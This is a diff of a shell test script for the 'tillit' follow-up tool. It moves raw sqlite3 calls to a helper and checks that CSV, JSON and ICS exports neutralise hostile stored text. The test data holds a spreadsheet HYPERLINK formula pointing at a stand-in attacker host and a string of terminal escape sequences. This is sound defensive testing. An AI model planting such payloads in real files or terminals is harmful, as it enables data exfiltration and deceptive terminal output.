@@ -64,8 +64,8 @@ must tl followup add --text "Vanlig text, med komma" --owner "$PERSON" -q
 # break, so another program puts them there.
 must tl followup add --text "tab" --owner "$PERSON" -q
 TABF=$(last_id)
-sqlite3 "$DB" "UPDATE followups SET text = char(9) || '=1+1' \
-	WHERE id = '$TABF';" || echo "not ok - setup: sqlite3 UPDATE"
+dbsql "UPDATE followups SET text = $CHR(9) || '=1+1' \
+	WHERE id = '$TABF';" || echo "not ok - setup: SQL UPDATE"
 
 GUARDED='"'"'"'=HYPERLINK(""http://evil.example/?x"",""klicka"")"'
 for how in "followup list --format csv" "export followups --format csv" \
@@ -210,15 +210,15 @@ fi
 
 # ---- controls stored by another program ------------------------------------
 
-# tillit refuses controls in new text, so put them in with sqlite3.
-BAD="char(27) || ']0;pwned' || char(7) || char(27) || '[2J' || char(1) \
-	|| char(8) || char(13) || char(127) || char(155) || '[31m'"
+# tillit refuses controls in new text, so put them in with SQL.
+BAD="$CHR(27) || ']0;pwned' || $CHR(7) || $CHR(27) || '[2J' || $CHR(1) \
+	|| $CHR(8) || $CHR(13) || $CHR(127) || $CHR(155) || '[31m'"
 # What the screen shows for it.
 SHOWN='^[]0;pwned^G^[[2J^A^H^M^??[31m'
 must tl followup add --text "Kontroll" --owner "$PERSON" --due 2026-12-01 \
 	--meeting "$HOSTILE" -q
 CTL=$(last_id)
-sqlite3 "$DB" "
+dbsql "
 UPDATE followups SET text = 'F ' || $BAD, outcome = 'O ' || $BAD,
 	kind = 'action' || $BAD || ';x,y' WHERE id = '$CTL';
 UPDATE meetings SET title = 'M ' || $BAD, location = 'L ' || $BAD
@@ -226,7 +226,7 @@ UPDATE meetings SET title = 'M ' || $BAD, location = 'L ' || $BAD
 UPDATE items SET title = 'I ' || $BAD, notes = 'N ' || $BAD,
 	decision = 'D ' || $BAD WHERE meeting = '$HOSTILE';
 UPDATE mandates SET matter = 'X ' || $BAD WHERE meeting = '$HOSTILE';" ||
-	echo "not ok - setup: sqlite3 UPDATE"
+	echo "not ok - setup: SQL UPDATE"
 
 for cmd in "followup list --format csv" "export followups --format csv" \
 	"followup list --format csv --csv-raw" \
@@ -303,7 +303,7 @@ if ! cc -o "$W/jsonget" "$W/jsonget.c" $(pkg-config --cflags --libs \
 	fail "the JSON reader compiles" "$(head -3 "$W/cc.err")"
 else
 	"$W/jsonget" "$W/ctl.json" "$CTL" text >"$W/parsed"
-	sqlite3 "$DB" "SELECT text FROM followups WHERE id = '$CTL';" |
+	dbsql "SELECT text FROM followups WHERE id = '$CTL';" |
 		head -c -1 >"$W/stored"
 	name="the export's escaped text parses back to the stored bytes"
 	if [ -s "$W/stored" ] && cmp -s "$W/parsed" "$W/stored"; then
@@ -314,23 +314,25 @@ else
 fi
 # Import reads the escapes as the controls they stand for, and refuses
 # them with the sentence it gives for raw ones.
-run "$TILLIT" --db "$W/ctl-import.db" import "$W/ctl.json"
+CTLDB=$(newdb ctl-import) || exit 1
+run "$TILLIT" --db "$CTLDB" import "$W/ctl.json"
 check_err "import reads an escaped control as the control" 1 \
 	'must not contain a control character'
 
 # Round trip: text around the escaped range (U+007E, U+00A0, U+00A1,
 # U+07FF, U+2028, a backslash-u typed as text) exports, imports into a
 # fresh database and exports again byte for byte the same.
-RT=$W/rt.db
+RT=$(newdb rt) || exit 1
+RT2=$(newdb rt2) || exit 1
 must "$TILLIT" --db "$RT" init
 must "$TILLIT" --db "$RT" person add --name "Åsa ~ ¡ß" --kind employee -q
 must "$TILLIT" --db "$RT" followup add --owner "$(last_id)" -q --text \
 	"$(printf '~ \302\240 \302\241 \337\277 \342\200\250 \\u009B \\\\ "x"')"
 run "$TILLIT" --db "$RT" export
 cp "$W/out" "$W/rt1.json"
-run "$TILLIT" --db "$W/rt2.db" import "$W/rt1.json"
+run "$TILLIT" --db "$RT2" import "$W/rt1.json"
 RC1=$RC
-run "$TILLIT" --db "$W/rt2.db" export
+run "$TILLIT" --db "$RT2" export
 if [ "$RC1" = 0 ] && [ "$RC" = 0 ] && cmp -s "$W/rt1.json" "$W/out"; then
 	pass "export, import and export again give the same bytes"
 else
@@ -421,8 +423,8 @@ if ! cc -o "$W/icscheck" "$W/icscheck.c" $(pkg-config --cflags --libs \
 else
 	# A long text of two-byte characters, so that lines are folded.
 	LONG=$(printf 'å%.0s' $(seq 120))
-	sqlite3 "$DB" "UPDATE followups SET outcome = 'O ' || $BAD || \
-		'$LONG' || char(10) || 'rad 2; med, tecken\\' \
+	dbsql "UPDATE followups SET outcome = 'O ' || $BAD || \
+		'$LONG' || $CHR(10) || 'rad 2; med, tecken\\' \
 		WHERE id = '$CTL';"
 	run tl export followups --format ics
 	cp "$W/out" "$W/out.ics"
